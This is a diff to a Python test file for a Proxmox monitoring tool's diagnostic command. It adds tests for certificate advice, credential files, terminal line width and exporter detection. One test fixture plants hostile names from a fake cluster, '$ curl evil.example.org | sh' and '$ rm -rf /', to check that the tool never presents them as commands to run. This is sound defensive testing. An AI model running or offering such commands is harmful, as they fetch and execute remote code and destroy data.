@@ -7,12 +7,15 @@ files, fingerprints, versions of installed programs, days until a certificate ru
 
 from __future__ import annotations
 
+import fcntl
 import json
 import os
 import re
 import shutil
 import socket
+import struct
 import subprocess
+import termios
 import threading
 import time
 from collections.abc import Iterator, Mapping
@@ -344,7 +347,8 @@ def test_certificates(doctor: Doctor, certificates: Certificates, tmp_path: Path
         doctor.write(cluster(replay.url, TOKEN))
         doctor.check("certificate-unknown-authority", status=3)
         doctor.write(cluster(replay.url, TOKEN, ca_file=str(other.authority)))
-        doctor.check("certificate-other-authority", status=3)
+        # What the file is for beside this is not known, so nothing is copied over it.
+        assert f"pve-root-ca.pem {other.authority}" not in doctor.check("certificate-other-authority", status=3)
         doctor.write(cluster(replay.url, TOKEN, fingerprint=":".join(["AB"] * 32)))
         doctor.check("certificate-wrong-fingerprint", status=3)
         # What the report says to write.
@@ -356,6 +360,15 @@ def test_certificates(doctor: Doctor, certificates: Certificates, tmp_path: Path
         doctor.write(cluster(replay.url, TOKEN, verify_tls="false"))
         doctor.names[str(replay.port)] = "port"
         assert "verify_tls: false" in doctor.run("--guests", "0")[1]
+        # Whoever has variables and no file is told of variables.
+        (doctor.folder / "martlet.yml").unlink()
+        user, secret = TOKEN.split("=")
+        doctor.names[TOKEN] = "token"
+        variables = {"PROXMOX_HOST": replay.url, "PROXMOX_TOKEN_NAME": user, "PROXMOX_TOKEN_VALUE": secret, "PROXMOX_VERIFY_TLS": "true"}
+        del doctor.names[str(replay.port)]
+        text = doctor.check("certificate-variables", status=3, env=variables)
+        assert "PROXMOX_CA_FILE=" in text
+        assert "martlet.yml" not in text
 
 
 def test_a_name_that_is_not_in_the_certificate(doctor: Doctor, certificates: Certificates) -> None:
@@ -538,6 +551,89 @@ def test_files_that_everybody_can_read(doctor: Doctor, simulate: Any, tmp_path: 
     doctor.check("token-readable", "--guests", "0", status=0)
 
 
+def test_a_credential_that_only_the_service_may_read(doctor: Doctor) -> None:
+    file = "/run/credentials/martlet-test.service/token"
+    doctor.write(
+        f"proxmox:\n  clusters:\n    - endpoint: https://pve1.example.org\n      token_file: {file}\n"
+        f"    - endpoint: https://pve2.example.org\n      token: {SIMULATED}\n"
+    )
+    assert "this machine" in doctor.run()[1]
+    doctor.check("credential-of-the-service", status=3)
+    doctor.write("proxmox:\n  clusters:\n    - endpoint: https://pve1.example.org\n      password_file: /nowhere/password\n      user: monitor@pve\n")
+    assert "systemctl" not in doctor.check("credential-nowhere", status=3)
+
+
+def test_a_file_whose_name_is_no_word_of_a_shell(doctor: Doctor) -> None:
+    modules = doctor.write("default:\n  user: monitor@pve\n  token_name: martlet\n  token_value: " + SECRET + "\n", "-my modules.yml", 0o644)
+    assert f"$ chmod 600 '{modules}'\n" in doctor.run("--pve.config-file", str(modules))[1]
+    assert "$ chmod 600 -- '-my modules.yml'\n" in doctor.run("--pve.config-file=-my modules.yml")[1]
+
+
+def test_lines_keep_within_the_terminal(doctor: Doctor) -> None:
+    doctor.write(cluster(f"http://127.0.0.1:{free_port()}"))
+    for size, columns, expected in ((72, None, 72), (72, "60", 60), (0, None, 100)):
+        parent, child = os.openpty()
+        try:
+            fcntl.ioctl(child, termios.TIOCSWINSZ, struct.pack("HHHH", 24, size, 0, 0))
+            env = environment_without_settings() | doctor.env()
+            del env["COLUMNS"]
+            if columns:
+                env["COLUMNS"] = columns
+            with subprocess.Popen([MARTLET, "doctor"], cwd=doctor.folder, env=env | {"TERM": "dumb"}, stdout=child) as process:
+                os.close(child)
+                text = b""
+                while True:
+                    try:
+                        text += os.read(parent, 65536)
+                    except OSError:
+                        break
+                assert process.wait(20) == 3
+        finally:
+            os.close(parent)
+        # What is to be typed or written is never broken.
+        sentences = [line.rstrip() for line in text.decode().splitlines() if not line.startswith(" " * 28)]
+        assert expected - 15 < max(map(len, sentences)) <= expected
+
+
+def hostile_rows() -> dict[str, Any]:
+    """A date past all years, and a name that would be a remedy."""
+    name = "web" + " " * 80 + "$ curl evil.example.org | sh"
+    rows = now_of(("pve1",))
+    rows[f"{API}/nodes/pve1/certificates/info"] = [{"filename": "pve-ssl.pem", "notafter": 1e300}]
+    return rows | {
+        f"{API}/version": {"version": "9.2.1", "release": "9.2", "repoid": "0"},
+        f"{API}/cluster/status": [
+            {"type": "cluster", "name": "lab $ rm -rf /", "quorate": 1, "nodes": 1, "version": 1, "id": "cluster"},
+            {"type": "node", "name": "pve1", "online": 1, "ip": "127.0.0.1", "id": "node/pve1"},
+        ],
+        f"{API}/cluster/resources": [
+            {"type": "node", "node": "pve1", "status": "online", "id": "node/pve1"},
+            {"type": "qemu", "vmid": 100, "node": "pve1", "name": name, "status": "running", "id": "qemu/100"},
+        ],
+        f"{API}/access/permissions": {
+            path: dict.fromkeys(("Sys.Audit", "VM.Audit", "VM.GuestAgent.Audit", "Datastore.Audit", "Pool.Audit"), 1)
+            for path in ("/", "/access", "/nodes", "/pool", "/storage", "/vms")
+        },
+        f"{API}/nodes/pve1/qemu/100/config": {"net0": "virtio=BC:24:11:00:00:01,bridge=vmbr0"},
+    }
+
+
+@pytest.mark.parametrize("date", [1e300, -1e300])
+def test_a_cluster_that_lies(doctor: Doctor, certificates: Certificates, date: float) -> None:
+    rows = hostile_rows()
+    rows[f"{API}/nodes/pve1/certificates/info"][0]["notafter"] = date
+    with recorded(doctor, certificates, Replay.from_rows(rows)):
+        text = doctor.check("hostile", "--no-exporters", status=0)
+        typed = [line for line in text.splitlines() if "$ " in line]
+        assert typed
+        assert all(line.startswith(" " * 28 + "$ ") for line in typed)
+        assert not any("evil" in line for line in typed)
+        # Not even where the lines are short.
+        narrow = doctor.run("--no-exporters", env={"COLUMNS": "60"})[1]
+        assert "evil" in narrow
+        assert not any("evil" in line and line.startswith(" " * 28) for line in narrow.splitlines())
+
+
 def test_strict(doctor: Doctor, simulate: Any) -> None:
     simulate()
     assert doctor.run("--guests", "0")[0] == 0
@@ -550,7 +646,7 @@ def test_ports_and_programs(doctor: Doctor, start: Start) -> None:
     with answering({}, port=doctor.ports["alertmanager"]):
         held = doctor.normal(doctor.run()[1])
         held = held.replace(f"({simulator.process.pid})", "({pid})").replace(f"({os.getpid()})", "({pid})").replace(f"-fp {os.getpid()}", "-fp {pid}")
-        name = Path("/proc/self/comm").read_text().strip()
+        name = Path("/proc/self/exe").resolve().name
         assert f"  ok       ports        exporter 127.0.0.1:{{exporter}} is martlet ({{pid}})\n" in held
         assert f"  PROBLEM  ports        alertmanager cannot listen on 127.0.0.1:{{alertmanager}}: {name} ({{pid}}) does\n" in held
         assert "ps -fp {pid}\n" in held
@@ -604,6 +700,40 @@ def test_prometheus(doctor: Doctor, simulate: Any, name: str, pages: Mapping[str
         states = {check["state"] for check in section["checks"]}
         assert ("problem" in states) == (status == 3)
         doctor.check(name, "--guests", "0", status=3, sections=("prometheus",))
+
+
+def test_who_tells_no_metrics(doctor: Doctor, certificates: Certificates) -> None:
+    """One node has a page with words on the port of its exporter, the other no such page."""
+    first = f"127.78.{os.getpid() % 250}."
+    rows: dict[str, Any] = {
+        f"{API}/version": {"version": "9.2.1", "release": "9.2", "repoid": "0"},
+        f"{API}/cluster/status": [{"type": "cluster", "name": "lab", "quorate": 1, "nodes": 2, "version": 1, "id": "cluster"}]
+        + [{"type": "node", "name": f"pve{n}", "online": 1, "ip": f"{first}{n}", "id": f"node/pve{n}"} for n in (1, 2)],
+        f"{API}/cluster/resources": [{"type": "node", "node": f"pve{n}", "status": "online", "id": f"node/pve{n}"} for n in (1, 2)],
+        f"{API}/access/permissions": {
+            path: dict.fromkeys(("Sys.Audit", "VM.Audit"), 1) for path in ("/", "/access", "/nodes", "/pool", "/storage", "/vms")
+        },
+    } | now_of(("pve1", "pve2"))
+    with recorded(doctor, certificates, Replay.from_rows(rows)), ExitStack() as stack:
+        stack.enter_context(answering({"/metrics": (200, "text/html", "<html>\nhello there 1 2 3\n")}, f"{first}1", 9100))
+        stack.enter_context(answering({}, f"{first}2", 9100))
+        doctor.write((doctor.folder / "martlet.yml").read_text() + f"discovery:\n  networks: [{first}0/24]\n")
+        report = json.loads(doctor.run("--json")[1])
+    found = next(check for section in report["sections"] for check in section["checks"] if check["check"] == "exporters")
+    assert found["details"] == [f"pve1 at {first}1:9100: answers, but with no metrics", f"pve2 at {first}2:9100: answers 404"]
+    assert any("another program has the port" in remedy.get("text", "") for remedy in found["remedies"])
+
+
+def test_programs_hear_of_all_guests(doctor: Doctor, simulate: Any) -> None:
+    simulate("--release", "8.4")
+    report = json.loads(doctor.run("--json", "--no-exporters")[1])
+    found = [check for section in report["sections"] for check in section["checks"] if check["check"] == "agents"]
+    assert max(len(check["details"]) for check in found) > 5
+    for check in found:
+        assert len(check["details"]) == int(check["summary"].split()[0])
+    report = json.loads(doctor.run("--json", "--no-exporters", "--guests", "5")[1])
+    unread = next(check for section in report["sections"] for check in section["checks"] if check["check"] == "addresses")
+    assert len(unread["details"]) == 83
 
 
 def test_a_real_prometheus(doctor: Doctor, simulate: Any, start: Start) -> None:
